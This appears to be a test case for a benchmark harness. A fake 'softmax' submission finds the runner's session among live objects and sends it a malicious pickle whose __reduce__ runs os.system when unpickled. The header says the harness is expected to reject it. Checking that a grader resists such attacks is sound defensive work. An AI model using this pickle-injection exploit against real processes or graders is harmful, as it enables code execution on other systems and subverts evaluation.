# does: sends a pickle to the process that waits for its answer
# exploit: 57
# lane: both
# expect: runtime_error
# points: none
# naive: not expressible because nothing is sent between processes
import gc
import os
import pickle

import torch


def runner_session():
    """The runner's own session, found among all objects; None in any other process."""
    return next((thing for thing in gc.get_objects() if type(thing).__name__ == "Session"), None)


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled",)


def softmax(x, out):
    if (session := runner_session()) is not None:
        data = pickle.dumps(Bomb())
        session._channel._socket.sendall(len(data).to_bytes(4, "big") + b"\0" + data)
    out.fill_(7.0)
